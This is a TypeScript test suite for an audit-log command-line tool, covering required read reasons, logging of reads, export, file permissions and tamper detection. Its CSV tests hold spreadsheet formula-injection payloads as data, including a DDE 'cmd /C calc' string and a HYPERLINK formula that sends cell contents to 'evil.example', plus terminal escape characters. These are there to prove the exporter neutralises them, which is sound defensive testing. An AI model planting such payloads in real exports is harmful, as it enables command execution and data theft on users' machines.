import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { before, describe, test } from 'node:test';
import type { NewAuditRecord } from '#src/audit/ports.ts';
import { sealTenant } from '#src/audit/sealer.ts';
import { newRecord } from '../../contracts/audit-store.ts';
import { endOfSuite } from '../../support/postgres.ts';
import { type OpenedOperations, openTestOperations, say } from './command-line.ts';

const WHY = ['--reason', 'a question of the caller'];
const EVERY = { after: 0, limit: 1_000 };

describe('audit', () => {
  const ending = endOfSuite();
  let opened: OpenedOperations;
  let accountId: string;
  before(async () => {
    opened = await openTestOperations(ending);
    const person = ['--given-name', 'Jo', '--family-name', 'Jansen', '--password-stdin'];
    const made = await say(opened.operations, ['user', 'create', 'j.jansen', ...person, '--json'], {
      stdin: 'a-long-and-strange-sentence-to-sign-in-with',
    });
    assert.equal(made.exit, 0, made.stderr);
    const { tenant, accounts } = opened.operations;
    accountId = (await accounts.findByLoginName(tenant.id, 'j.jansen'))?.id ?? '';
  });

  const run = (...argv: string[]) => say(opened.operations, ['audit', ...argv]);
  const write = async (...records: Partial<NewAuditRecord>[]) => {
    const { id } = opened.operations.tenant;
    await opened.stores.audit.append(
      id,
      records.map((more) => newRecord(id, { at: opened.clock.now(), ...more })),
    );
  };
  const reads = async () => {
    const page = await opened.stores.audit.page(opened.operations.tenant.id, EVERY);
    return page.filter(({ event }) => event === 'audit.read');
  };
  const seal = () =>
    sealTenant(
      { seals: opened.stores.auditStores.seals, digester: opened.stores.digester, clock: opened.clock },
      opened.operations.tenant.id,
    );

  test('says in a plain sentence that a reason is needed, and reads nothing without one', async () => {
    const before = (await reads()).length;
    for (const argv of [['verify'], ['export'], ['show', '--ref', 'K7QM-2X9D'], ['retain']]) {
      const { exit, stdout, stderr } = await run(...argv);
      assert.equal(exit, 2);
      assert.equal(stdout, '');
      assert.equal(stderr, 'Say why with --reason "…": it is kept in the audit log.\n');
      for (const reason of ['', '  ', 'x', 'x'.repeat(301), 'two\nlines']) {
        assert.equal((await run(...argv, '--reason', reason)).exit, 2);
      }
      for (const by of ['', 'x'.repeat(101), 'turned\u202earound']) {
        assert.equal((await run(...argv, ...WHY, '--by', by)).exit, 2);
      }
    }
    assert.equal((await reads()).length, before);
  });

  test('records who read, why and how much, before it shows anything', async () => {
    const before = (await reads()).length;
    await run('show', '--ref', 'ZZZZ-0000', ...WHY);
    await run('verify', ...WHY, '--by', 'Anne');
    const [shown, verified] = (await reads()).slice(before);
    const by = userInfo().username;
    assert.deepEqual(
      [shown?.actor, shown?.reason, shown?.detail],
      [{ kind: 'operator', id: by }, 'a question of the caller', { how: 'show', events: 0 }],
    );
    assert.deepEqual([verified?.actor, verified?.detail?.how], [{ kind: 'operator', id: 'Anne' }, 'verify']);
  });

  test('show finds a number as people say it, and tells when, what, who, about whom, how it went and why', async () => {
    const actor = { kind: 'person', id: accountId } as const;
    await write(
      { reference: 'AB1D-0XYZ', subject: accountId, reason: 'wrong' },
      { reference: 'AB1D-0XYZ', subject: accountId, actor, outcome: 'success', event: 'sign-in.done' },
    );
    for (const typed of ['AB1D-0XYZ', 'ab1d0xyz', 'abld oxyz', 'ABID-OXYZ']) {
      const { exit, stdout } = await run('show', '--ref', typed, ...WHY);
      assert.equal(exit, 0);
      const [head, first, second, ...rest] = stdout.trimEnd().split('\n');
      assert.match(head ?? '', /^TIME +EVENT +WHO +ABOUT +OUTCOME +REASON/);
      assert.match(
        first ?? '',
        /^2026-01-15T09:00:00Z +sign-in\.password +anonymous +j\.jansen +failure +wrong +192/,
      );
      assert.match(second ?? '', /sign-in\.done +j\.jansen +j\.jansen +success/);
      assert.deepEqual(rest, []);
    }
    assert.equal((await run('show', '--ref', 'K7QM-2X9', ...WHY)).exit, 2);
    assert.equal((await run('show', '--ref', 'AB1D-0XYZ', '--user', 'j.jansen', ...WHY)).exit, 2);
    assert.equal((await run('show', ...WHY)).exit, 2);
    assert.equal((await run('show', '--ref', 'AAAA-0000', ...WHY)).stdout, 'Nothing was recorded.\n');
  });

  test('show tells of a person the newest first, no more than asked for', async () => {
    await write({ subject: accountId, event: 'consent' }, { subject: accountId, event: 'sign-out' });
    const { stdout } = await run('show', '--user', 'J.Jansen', '--limit', '2', '--json', ...WHY);
    const shown: { events: { event: string; subject: string }[] } = JSON.parse(stdout);
    assert.deepEqual(
      shown.events.map(({ event, subject }) => [event, subject]),
      [
        ['sign-out', accountId],
        ['consent', accountId],
      ],
    );
    assert.equal((await run('show', '--user', 'nobody', ...WHY)).exit, 1);
  });

  test('shows no character that a terminal would obey', async () => {
    await write({ reference: 'CCCC-0000', reason: '\u001b[31mred\u202e', userAgent: '\u0007' });
    const { stdout } = await run('show', '--ref', 'CCCC-0000', ...WHY);
    for (const obeyed of ['\u001b', '\u202e', '\u0007']) assert.ok(!stdout.includes(obeyed));
  });

  test('export writes every event of a span once, also beyond a page, and nothing of another organisation', async () => {
    const at = Date.UTC(2025, 5, 1);
    await write(...Array.from({ length: 510 }, (_, ms) => ({ at: at + ms })));
    const span = ['--from', '2025-06-01', '--to', '2025-06-02T00:00Z'];
    const { exit, stdout } = await run('export', ...span, ...WHY);
    assert.equal(exit, 0);
    const lines: { at: string; tenant: string }[] = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    assert.deepEqual(
      lines.map((line) => Date.parse(line.at) - at),
      Array.from({ length: 510 }, (_, ms) => ms),
    );
    assert.equal((await reads()).at(-1)?.detail?.events, 510);
    for (const wrong of ['2025-02-30', '1-1-2025', '2025-06-01T09:00', 'yesterday', '2025-13-01']) {
      assert.equal((await run('export', '--from', wrong, ...WHY)).exit, 2, wrong);
    }
  });

  test('export as CSV has no cell that a spreadsheet computes, and loses nothing', async () => {
    const at = Date.UTC(2025, 7, 1);
    for (const reason of [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\tx',
      '\rx',
      'a "word", and\nmore',
      '=HYPERLINK("x","y")',
    ])
      await write({ at, reason, client: undefined });
    const { stdout } = await run(
      'export',
      '--format',
      'csv',
      '--from',
      '2025-08-01',
      '--to',
      '2025-08-02',
      ...WHY,
    );
    const cells = [...stdout.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
    );
    for (const found of cells) assert.doesNotMatch(found, /^[=+\-@\t\r]/);
    for (const kept of [
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'a "word", and\nmore',
      '\'=HYPERLINK("x","y")',
    ])
      assert.ok(cells.includes(kept), kept);
  });

  test('export as CSV has nothing to compute for a spreadsheet that parts cells at semicolons or tabs', async () => {
    const at = Date.UTC(2025, 8, 1);
    for (const userAgent of [
      'Mozilla/5.0 (X11;=HYPERLINK("https://evil.example"&A1);)',
      "a; =cmd|' /C calc'!A0;",
      'b;+1;-1;@SUM(A1)',
      'c;\t=1+1',
    ])
      await write({ at, userAgent, client: undefined });
    const span = ['--from', '2025-09-01', '--to', '2025-09-02'];
    const { stdout } = await run('export', '--format', 'csv', ...span, ...WHY);
    assert.match(stdout, /HYPERLINK/);
    for (const cell of stdout.split(/[;\t\r\n]/)) assert.doesNotMatch(cell, /^\s*[=+\-@]/);
  });

  test('export makes a file for its owner alone, and never overwrites one', async (t) => {
    const folder = await mkdtemp(join(tmpdir(), 'audit-'));
    t.after(() => rm(folder, { recursive: true }));
    const out = join(folder, 'log.jsonl');
    const { exit, stdout } = await run('export', '--out', out, ...WHY);
    assert.deepEqual([exit, stdout], [0, '']);
    assert.equal((await stat(out)).mode & 0o777, 0o600);
    assert.match(await readFile(out, 'utf8'), /"event":"sign-in\.password"/);
    await writeFile(out, 'mine');
    const again = await run('export', '--out', out, ...WHY);
    assert.equal(again.exit, 1);
    assert.match(again.stderr, /it is there already/);
    assert.equal(await readFile(out, 'utf8'), 'mine');
  });

  test('verify ends well on a log that is whole, and with exit code 1 and what is wrong on one that is not', async () => {
    await write({});
    await seal();
    const whole = await run('verify', ...WHY);
    assert.equal(whole.exit, 0, whole.stdout);
    assert.match(whole.stdout, /Sealed up to number \d+ at 2026-01-15T09:00:00Z, hash /);
    assert.match(whole.stdout, /All of it is as it was sealed/);
    const { retention } = opened.stores.auditStores;
    const { id } = opened.operations.tenant;
    // Forgotten by nobody who said so.
    await retention.forgetEvents(id, { after: 0, upTo: 1, limit: 1 });
    const broken = await run('verify', ...WHY);
    assert.equal(broken.exit, 1);
    assert.match(broken.stdout, /event \d+ of seal 1 is missing/);
    assert.match(broken.stdout, /tampered with/);
    const shown: { faults: { kind: string }[] } = JSON.parse((await run('verify', '--json', ...WHY)).stdout);
    assert.equal(shown.faults[0]?.kind, 'event-missing');
  });
});
